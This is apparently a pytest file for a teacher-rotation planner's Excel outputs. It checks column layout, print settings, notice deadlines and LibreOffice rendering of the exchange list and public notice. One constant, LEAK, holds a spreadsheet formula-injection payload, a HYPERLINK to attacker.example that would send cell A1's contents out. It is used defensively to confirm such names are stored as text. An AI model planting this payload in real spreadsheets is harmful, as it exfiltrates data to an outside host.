"""The lists a bureau files and posts, in plan.xlsx: the 交流名单 with the bureau's columns under a
title row, the 公示 (public notice) with fewer columns under the scenario's notice, both (and every
other sheet) ready to print: frozen header, autofilter, header repeated on each page, landscape A4
one page wide. LibreOffice prints them whole."""

from __future__ import annotations

import datetime
import math
import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from bundle_edits import add_policy, good_bundle, write

from optimizer.errors import ScenarioError
from optimizer.io import load_bundle, load_workbook, write_workbook
from optimizer.io.filing import term_span, working_days_after
from optimizer.io.outputs import write_outputs
from optimizer.plan import ItinerantAssignment, Move, Plan, Summary
from optimizer.result import Result
from optimizer.scenario import Scenario
from tests import tiny

LIST_HEADER = (
    "序号",
    "姓名",
    "性别",
    "出生年月",
    "学历",
    "职称",
    "骨干",
    "原学校",
    "交流学校",
    "学科",
    "交流方式",
    "起止年月",
    "教师编号",
    "交流依据",
)
NOTICE_HEADER = ("序号", "姓名", "原学校", "交流学校", "学科", "交流方式", "起止年月")
A4 = 9
"""Excel's code of the paper size."""
FRIDAY = datetime.date(2027, 6, 4)
LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1, "详情")'


def county(teachers: int = 4, overrides: tuple[str, ...] = ()) -> Scenario:
    """An urban and a rural school of 东区, planned for 2027; T00 is a named backbone man with a
    master's degree and a senior title."""
    schools = [
        tiny.school("U1", "urban", name="城关小学", establishment=teachers),
        tiny.school("R1", "rural", name="山口小学"),
    ]
    staff = [
        tiny.teacher(
            "T00",
            "U1",
            name="王强",
            gender="M",
            birth_year=1985,
            degree="master",
            title="高级",
            is_backbone=True,
        )
    ]
    staff += [tiny.teacher(f"T{i:02d}", "U1", name=f"教师{i}") for i in range(1, teachers)]
    staff += [tiny.teacher("R00", "R1", name="李娜")]
    return tiny.scenario(schools, staff, {("R1", "math"): 3}, overrides=["year=2027", *overrides])


def sent(scenario: Scenario, moves: int = 1) -> Result:
    """A plan by hand: `moves` teachers of U1 rotate to R1 for three years, R00 comes to U1 for a
    one-year exchange, and T03 teaches half a post at R1 by 走教."""
    plan = Plan(
        moves=tuple(Move(f"T{i:02d}", "U1", "R1", "math", 3, "rotation_quota") for i in range(moves)),
        exchanges=(Move("R00", "R1", "U1", "math", 1, "exchange", kind="exchange"),),
        itinerant=(ItinerantAssignment("T03", "U1", "R1", "math", 0.5),),
    )
    summary = Summary("feasible", 0.0, 0.0, 0.0, 0.0, 0.0, 0, moves, 1, 0, 0)
    return Result(plan=plan, report=(), summary=summary)


def rows(path: Path, sheet: str) -> list[tuple[object, ...]]:
    return list(openpyxl.load_workbook(path)[sheet].iter_rows(values_only=True))


def test_the_exchange_list_has_the_bureaus_columns_under_a_title(tmp_path: Path) -> None:
    scenario = county()
    write_outputs(sent(scenario), scenario, tmp_path, today=FRIDAY)

    listed = rows(tmp_path / "plan.xlsx", "交流名单")
    assert listed[0][0] == "东区 2027 年义务教育教师交流轮岗名单"
    assert listed[1] == LIST_HEADER
    assert listed[2] == (
        1, "王强", "男", "1985", "硕士", "高级", "是", "城关小学", "山口小学", "数学", "交流轮岗",
        "2027.09-2030.08", "T00", "交流比例",
    )  # fmt: skip
    assert listed[3][:12] == (
        2, "李娜", "女", "1990", "本科", None, "否", "山口小学", "城关小学", "数学", "跟岗",
        "2027.09-2028.08",
    )  # fmt: skip
    assert listed[4][1] == "教师3" and listed[4][10:13] == ("走教", "2027.09-2028.08", "T03")
    assert len(listed) == 5


def test_every_sheet_is_ready_to_print_and_filter(tmp_path: Path) -> None:
    scenario = county()
    write_outputs(sent(scenario), scenario, tmp_path, today=FRIDAY)

    book = openpyxl.load_workbook(tmp_path / "plan.xlsx")
    listed = book["交流名单"]
    assert "A1:N1" in {str(merged) for merged in listed.merged_cells.ranges}  # the title across the table
    assert listed.freeze_panes == "A3"
    assert listed.auto_filter.ref == "A2:N5"
    assert listed.print_title_rows == "$2:$2"
    notice = book["公示"]
    assert (notice.freeze_panes, notice.auto_filter.ref, notice.print_title_rows) == ("A6", "A5:G8", "$5:$5")
    for sheet in book.worksheets:
        header = 2 if sheet.title == "交流名单" else 5 if sheet.title == "公示" else 1
        assert sheet.freeze_panes == f"A{header + 1}", sheet.title
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith(f"A{header}:"), sheet.title
        assert sheet.print_title_rows == f"${header}:${header}", sheet.title
        setup = sheet.page_setup
        assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == (
            "landscape",
            A4,
            1,
            0,
        ), sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title


def test_the_notice_lists_fewer_columns_under_the_scenarios_notice(tmp_path: Path) -> None:
    scenario = county(overrides=("notice.date=2027-06-04", "notice.channel=电话 0731-12345678"))
    write_outputs(sent(scenario), scenario, tmp_path, today=datetime.date(2030, 1, 1))

    notice = rows(tmp_path / "plan.xlsx", "公示")
    assert notice[0][0] == "东区 2027 年义务教育教师交流轮岗名单公示"
    assert "拟安排以下 3 名教师自 2027 年秋季学期起参加交流" in str(notice[1][0])
    assert notice[2][0] == "公示时间：2027年6月4日至2027年6月11日"  # 5 working days after a Friday
    assert notice[3][0] == "异议渠道：电话 0731-12345678；异议截止日期：2027年6月11日"
    assert notice[4] == NOTICE_HEADER
    assert notice[5] == (1, "王强", "城关小学", "山口小学", "数学", "交流轮岗", "2027.09-2030.08")
    assert [row[1] for row in notice[5:8]] == ["王强", "李娜", "教师3"]
    assert [row[0] for row in notice[8:]] == ["东区教育局", "2027年6月4日"]
    assert not {"1985", "男", "硕士"} & {cell for row in notice for cell in row}  # no birth, gender, degree


def test_a_bundles_notice_table_is_read_written_and_checked(tmp_path: Path) -> None:
    notice = '\n[notice]\ntitle = "城关片区教师交流公示"\ndate = 2027-06-01\ndeadline = "2027-06-15"\n'
    bundle = good_bundle()
    add_policy(notice)(bundle)
    scenario = load_bundle(write(bundle, tmp_path / "bundle"))
    given = {"title": "城关片区教师交流公示", "date": "2027-06-01", "deadline": "2027-06-15"}
    assert scenario.policy.notice == given
    assert load_workbook(write_workbook(scenario, tmp_path / "scenario.xlsx")).policy.notice == given

    bundle = good_bundle()
    add_policy('\n[notice]\ndate = "6月1日"\ndeadline = 2020-01-01\nsigned = "x"\n')(bundle)
    with pytest.raises(ScenarioError) as raised:
        load_bundle(write(bundle, tmp_path / "bad"))
    where = {(p.file, p.column) for p in raised.value.problems}
    assert where == {("policy.toml", "notice.date"), ("policy.toml", "notice.signed")}
    bundle = good_bundle()
    add_policy("\n[notice]\ndate = 2027-06-01\ndeadline = 2027-05-01\n")(bundle)
    with pytest.raises(ScenarioError, match="deadline comes before"):
        load_bundle(write(bundle, tmp_path / "early"))


def test_terms_start_in_september_and_deadlines_skip_weekends() -> None:
    assert term_span(2027, 3) == ("2027.09", "2030.08")
    assert term_span(2027, 1) == ("2027.09", "2028.08")
    assert working_days_after(FRIDAY, 5) == datetime.date(2027, 6, 11)
    assert working_days_after(datetime.date(2027, 6, 7), 5) == datetime.date(2027, 6, 14)  # a Monday


def test_formula_looking_names_stay_text_in_the_filed_lists(tmp_path: Path) -> None:
    scenario = county(overrides=(f"notice.title={LEAK}",))
    named = replace(scenario, teachers=tuple(replace(t, name=LEAK) for t in scenario.teachers))
    write_outputs(sent(named), named, tmp_path, today=FRIDAY)

    book = openpyxl.load_workbook(tmp_path / "plan.xlsx")
    for name in ("交流名单", "公示"):
        cells = [cell for row in book[name].iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], name
        assert LEAK in {cell.value for cell in cells}, name


SOFFICE = shutil.which("soffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is missing: apt-get install libreoffice-calc-nogui")
def test_libreoffice_prints_every_row(tmp_path: Path) -> None:
    """400 teachers sent: the two lists take many landscape pages (one page tall would squeeze them
    unreadably), and the 公示 as LibreOffice reads it holds every row."""
    teachers = 400
    scenario = county(teachers=teachers)
    write_outputs(sent(scenario, moves=teachers), scenario, tmp_path, today=FRIDAY)
    assert SOFFICE is not None
    book, out = tmp_path / "plan.xlsx", tmp_path / "out"
    profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"  # its own, beside any other soffice
    csv = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,2"  # sheet 2, 公示
    for target in ("pdf", csv):
        subprocess.run(
            [SOFFICE, profile, "--headless", "--convert-to", target, "--outdir", str(out), str(book)],
            check=True,
            capture_output=True,
            timeout=240,
        )  # fmt: skip
    pdf = (out / "plan.pdf").read_bytes()
    pages = re.findall(rb"/MediaBox\s*\[\s*0 0 ([\d.]+) ([\d.]+)", pdf)
    listed = teachers + 2  # the exchange and the 走教 too
    assert len(pages) >= 2 * math.ceil(listed / 40)  # a readable A4 page holds fewer than 40 rows
    assert all(float(width) > float(height) for width, height in pages)  # landscape
    notice = (out / "plan-公示.csv").read_text(encoding="utf-8").splitlines()
    assert notice[4] == ",".join(NOTICE_HEADER)
    assert [line.split(",")[0] for line in notice[5 : 5 + listed]] == [str(n) for n in range(1, listed + 1)]
    assert notice[5 + listed].startswith("东区教育局")
